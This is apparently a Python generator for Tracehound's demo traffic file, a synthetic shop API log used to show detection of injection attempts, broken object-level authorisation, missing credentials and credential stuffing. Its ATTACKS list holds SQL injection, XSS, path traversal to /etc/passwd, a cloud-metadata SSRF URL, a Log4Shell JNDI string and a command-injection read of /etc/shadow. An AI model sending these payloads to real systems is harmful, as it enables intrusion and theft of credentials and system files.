"""Generates the demo traffic shipped with Tracehound (``demo/shop.har``): a small shop API.

Deterministic (seeded), so the shipped file can be regenerated exactly:
``python -m tracehound.demo.generate src/tracehound/demo/shop.har``. It has what the demo should
show: id-bearing paths to template, literal siblings (``/users/me``, ``/orders/search``), personal
data in responses, a few injection attempts, a client walking other users' orders (BOLA), and
calls without credentials. All personal values are synthetic (reserved example domains and
documentation address ranges, test card numbers).
"""

from __future__ import annotations

import base64
import datetime as dt
import json
import random
import sys
from pathlib import Path
from typing import Any
from urllib.parse import quote

from tracehound.report.outputs import write_bytes

HOST = "shop.example.com"
START = dt.datetime(2026, 11, 2, 9, 0, tzinfo=dt.UTC)
FIRST = ["Ada", "Grace", "Alan", "Edsger", "Barbara", "Donald", "Frances", "Ken", "Margaret", "Linus"]
LAST = [
    "Lovelace",
    "Hopper",
    "Turing",
    "Dijkstra",
    "Liskov",
    "Knuth",
    "Allen",
    "Thompson",
    "Hamilton",
    "Torvalds",
]
STREETS = ["Main St", "Oak Avenue", "Elm Street", "Pine Road", "Maple Lane"]
TEST_CARDS = ["4111111111111111", "5555555555554444", "378282246310005", "6011111111111117"]
ATTACKS = [
    ("q", "' OR '1'='1' --"),
    ("q", "<script>alert(document.cookie)</script>"),
    ("file", "../../../../etc/passwd"),
    ("callback", "http://169.254.169.254/latest/meta-data/"),
    ("q", "${jndi:ldap://198.51.100.7/a}"),
    ("q", "; cat /etc/shadow"),
]


def _jwt(sub: int, rng: random.Random) -> str:
    def part(obj: dict[str, Any]) -> str:
        return base64.urlsafe_b64encode(json.dumps(obj, separators=(",", ":")).encode()).rstrip(b"=").decode()

    sig = base64.urlsafe_b64encode(rng.randbytes(32)).rstrip(b"=").decode()
    return (
        f"{part({'alg': 'HS256', 'typ': 'JWT'})}.{part({'sub': str(sub), 'iat': 1793000000, 'exp': 1793003600})}.{sig}"
    )


class Shop:
    def __init__(self, seed: int = 2026) -> None:
        self.rng = random.Random(seed)
        self.users: list[dict[str, Any]] = []
        for i in range(12):
            first, last = FIRST[i % len(FIRST)], LAST[(i * 3) % len(LAST)]
            self.users.append(
                {
                    "id": 1000 + i * 7,
                    "firstName": first,
                    "lastName": last,
                    "email": f"{first.lower()}.{last.lower()}@example.com",
                    "phone": f"+1-202-555-{100 + i:04d}",
                    "address": {"street": f"{10 + i} {STREETS[i % len(STREETS)]}", "zip": f"{10001 + i:05d}"},
                    "token": _jwt(1000 + i * 7, self.rng),
                    "ip": f"203.0.113.{10 + i}",
                }
            )
        self.orders = {u["id"]: [50000 + u["id"] * 10 + k for k in range(3)] for u in self.users}
        self.products = [f"{self.rng.getrandbits(64):016x}" for _ in range(20)]
        self.when = START
        self.entries: list[dict[str, Any]] = []

    def _entry(
        self,
        user: dict[str, Any] | None,
        method: str,
        path: str,
        status: int,
        body: Any = None,
        request: Any = None,
        ip: str | None = None,
    ) -> None:
        self.when += dt.timedelta(milliseconds=self.rng.randint(20, 3000))
        headers = [
            {"name": "Host", "value": HOST},
            {"name": "User-Agent", "value": "shop-app/2.3 (iOS)"},
            {"name": "Accept", "value": "application/json"},
            {"name": "X-Request-Id", "value": f"req-{len(self.entries):05d}"},
        ]
        if user is not None:
            headers.append({"name": "Authorization", "value": f"Bearer {user['token']}"})
        post = None
        if request is not None:
            text = json.dumps(request)
            headers.append({"name": "Content-Type", "value": "application/json"})
            post = {"mimeType": "application/json", "text": text}
        text = "" if body is None else json.dumps(body)
        latency = round(self.rng.lognormvariate(3.2, 0.5), 2)
        entry: dict[str, Any] = {
            "startedDateTime": self.when.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
            "time": latency,
            "request": {
                "method": method,
                "url": f"https://{HOST}{path}",
                "httpVersion": "HTTP/1.1",
                "headers": headers,
                "queryString": [],
                "cookies": [],
                "headersSize": -1,
                "bodySize": len(post["text"]) if post else 0,
            },
            "response": {
                "status": status,
                "statusText": "",
                "httpVersion": "HTTP/1.1",
                "headers": [
                    {"name": "Content-Type", "value": "application/json"},
                    {"name": "Strict-Transport-Security", "value": "max-age=31536000"},
                ],
                "content": {"size": len(text), "mimeType": "application/json", "text": text},
                "cookies": [],
                "redirectURL": "",
                "headersSize": -1,
                "bodySize": len(text),
            },
            "cache": {},
            "timings": {"send": 0.1, "wait": latency, "receive": 0.1},
            "_clientIPAddress": ip or (user["ip"] if user else "198.51.100.200"),
        }
        if post:
            entry["request"]["postData"] = post
        self.entries.append(entry)

    def _public(self, u: dict[str, Any]) -> dict[str, Any]:
        return {
            "id": u["id"],
            "firstName": u["firstName"],
            "lastName": u["lastName"],
            "email": u["email"],
            "phone": u["phone"],
            "address": u["address"],
            "createdAt": "2025-03-01T10:00:00Z",
        }

    def normal_session(self, u: dict[str, Any]) -> None:
        rng = self.rng
        self._entry(u, "GET", "/api/v1/users/me", 200, self._public(u))
        for _ in range(rng.randint(1, 4)):
            pid = rng.choice(self.products)
            self._entry(
                u,
                "GET",
                f"/api/v1/products/{pid}",
                200,
                {
                    "id": pid,
                    "name": "Widget",
                    "price": round(rng.uniform(3, 300), 2),
                    "currency": "EUR",
                    "stock": rng.randint(0, 90),
                },
            )
        self._entry(
            u,
            "GET",
            f"/api/v1/products?page={rng.randint(1, 5)}&limit=20",
            200,
            {"items": [{"id": p, "price": 9.99} for p in self.products[:3]], "page": 1},
        )
        oid = rng.choice(self.orders[u["id"]])
        self._entry(
            u,
            "GET",
            f"/api/v1/users/{u['id']}/orders",
            200,
            [
                {"id": o, "total": round(rng.uniform(10, 500), 2), "status": rng.choice(["paid", "shipped"])}
                for o in self.orders[u["id"]]
            ],
        )
        self._entry(
            u,
            "GET",
            f"/api/v1/orders/{oid}",
            200,
            {
                "id": oid,
                "userId": u["id"],
                "status": "paid",
                "total": 42.5,
                "shipping": {
                    "name": f"{u['firstName']} {u['lastName']}",
                    "street": u["address"]["street"],
                    "zip": u["address"]["zip"],
                },
            },
        )
        if rng.random() < 0.4:
            card = rng.choice(TEST_CARDS)
            self._entry(
                u,
                "POST",
                "/api/v1/orders",
                201,
                {"id": rng.randint(60000, 69999), "status": "created"},
                request={
                    "items": [{"productId": rng.choice(self.products), "quantity": 1}],
                    "payment": {"cardNumber": card, "expiry": "12/29"},
                },
            )
        if rng.random() < 0.3:
            self._entry(u, "GET", f"/api/v1/orders/search?status=paid&from={quote('2026-10-01')}", 200, {"items": []})

    def generate(self, sessions: int = 160) -> dict[str, Any]:
        rng = self.rng
        for i in range(sessions):
            self.normal_session(rng.choice(self.users[:-1]))
            if i % 20 == 5:
                self._entry(
                    None,
                    "POST",
                    "/api/v1/auth/login",
                    200,
                    {"token": "<issued>"},
                    request={"email": rng.choice(self.users)["email"], "password": "correct horse battery"},
                )
            if i % 25 == 7:
                name, payload = ATTACKS[(i // 25) % len(ATTACKS)]
                self._entry(
                    rng.choice(self.users),
                    "GET",
                    f"/api/v1/products?{name}={quote(payload)}",
                    400,
                    {"error": "bad request"},
                )
            if i % 30 == 11:
                self._entry(None, "GET", f"/api/v1/users/{rng.choice(self.users)['id']}/orders", 200, [])
        abuser = self.users[-1]
        for victim in self.users[:-1]:
            for oid in self.orders[victim["id"]]:
                self._entry(
                    abuser,
                    "GET",
                    f"/api/v1/orders/{oid}",
                    200,
                    {"id": oid, "userId": victim["id"], "status": "paid", "total": 12.0},
                )
        for n in range(25):
            self._entry(
                None,
                "POST",
                "/api/v1/auth/login",
                401,
                {"error": "invalid credentials"},
                request={"email": f"user{n}@example.org", "password": f"Winter20{n:02d}!"},
                ip="192.0.2.66",
            )
        return {
            "log": {
                "version": "1.2",
                "creator": {"name": "tracehound-demo", "version": "1"},
                "entries": self.entries,
            }
        }


def main(argv: list[str] | None = None) -> int:
    args = sys.argv[1:] if argv is None else argv
    out = Path(args[0] if args else "shop.har")
    write_bytes(out, json.dumps(Shop().generate(), separators=(",", ":")).encode("utf-8"))
    return 0


if __name__ == "__main__":
    sys.exit(main())
